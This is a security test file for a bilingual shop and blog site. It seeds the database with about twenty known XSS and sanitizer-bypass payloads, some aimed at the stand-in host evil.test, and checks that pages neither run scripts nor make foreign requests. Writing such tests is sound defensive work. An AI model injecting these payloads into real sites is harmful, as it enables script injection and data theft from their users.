import { cleanHtml } from '@agres/core/html';
import type { Db } from '@agres/db/db';

import { expect, testOfOwnSite } from './fixtures.ts';

/** HTML that carried scripts through sanitizers in the past; each would open a dialog. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template><textarea></textarea><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><image href=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)>',
  '<a href="java&#10;script:alert(1)">1</a><a href=" &#14;javascript:alert(1)">2</a>',
  '<a href="//evil.test/">3</a><a href="data:text/html,<script>alert(1)</script>">4</a>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><input name="mdp" autofocus onfocus=alert(1)></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/)">cover</p>',
  '<link rel="stylesheet" href="https://evil.test/"><style>@import "https://evil.test/";</style>',
  '<p>\u2028</p>]]></script></style></title><script>alert(1)</script>',
];
const TITLE = '</title></script><script>alert(1)</script><img src=x onerror=alert(1)>';

/** Stores the vectors unchanged, and once more as sanitized. */
async function addVectors(db: Db): Promise<void> {
  const raw = VECTORS.join('<hr>');
  for (const [index, html] of [raw, cleanHtml(raw)].entries()) {
    await db.article.create({
      data: {
        titleFr: TITLE,
        titleEn: TITLE,
        contentFr: html,
        contentEn: html,
        tags: [TITLE],
        creationDate: new Date(Date.now() - index),
        publishedAt: new Date(0),
      },
    });
    await db.item.create({
      data: {
        titleFr: TITLE,
        titleEn: TITLE,
        descriptionFr: html,
        descriptionEn: html,
        optionTitleFr: TITLE,
        optionTitleEn: TITLE,
        priceCents: 1000,
        position: -1 - index,
        bestSellerRank: 1 + index,
        publishedAt: new Date(0),
        options: {
          create: [{ position: 0, titleFr: TITLE, titleEn: TITLE, initialStock: 5, remaining: 5 }],
        },
      },
    });
  }
}

const test = testOfOwnSite(addVectors);

test('F1, F2: stored HTML runs no script, embeds no frame and makes no request, on any page', async ({
  page,
  site,
  foreignRequests,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(page.url());
    void dialog.dismiss();
  });
  const read = async (path: string): Promise<{ id: number; title: { fr: string } }[]> => {
    const response = await fetch(`${site.origin}${path}`);
    return await response.json();
  };
  const isHostile = ({ title }: { title: { fr: string } }) => title.fr === TITLE;
  const articles = (await read('/api/blog')).filter(isHostile);
  const items = (await read('/api/items')).filter(isHostile);
  expect([articles.length, items.length]).toEqual([2, 2]);

  const paths = ['fr', 'en'].flatMap((locale) => [
    `/${locale}`,
    `/${locale}/blog`,
    locale === 'fr' ? '/fr/boutique' : '/en/shop',
    ...articles.map(({ id }) => `/${locale}/blog/${id}`),
    ...items.map(({ id }) =>
      locale === 'fr' ? `/fr/boutique/materiel/${id}` : `/en/shop/item/${id}`,
    ),
  ]);
  for (const path of paths) {
    await page.goto(path);
    // The page shows the title as text, so it is hydrated and contains the stored HTML.
    await expect(page.getByText(TITLE).first()).toBeAttached();
    const findings = await page.evaluate(() => {
      const foreign =
        'iframe, object, embed, base, xmp, math, meta[http-equiv="refresh"], [srcdoc]';
      const handlers = [...document.querySelectorAll('*')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      );
      const links = [...document.querySelectorAll('a, form, link')].filter((element) =>
        /evil|^\s*(?:java|data)/i.test(
          `${element.getAttribute('href') ?? ''}${element.getAttribute('action') ?? ''}`,
        ),
      );
      return [...document.querySelectorAll(foreign), ...handlers, ...links].map(
        ({ outerHTML }) => outerHTML,
      );
    });
    expect([path, findings]).toEqual([path, []]);
  }
  expect(dialogs).toEqual([]);
  expect(foreignRequests).toEqual([]);
});
